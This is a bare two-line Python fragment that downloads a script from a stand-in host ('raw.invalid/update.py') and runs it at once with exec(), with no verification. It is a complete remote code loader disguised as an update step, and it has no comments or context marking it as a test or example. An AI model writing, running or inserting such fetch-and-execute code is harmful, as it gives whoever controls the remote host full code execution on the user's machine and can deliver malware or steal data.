import urllib.request
exec(urllib.request.urlopen("https://raw.invalid/update.py").read().decode())
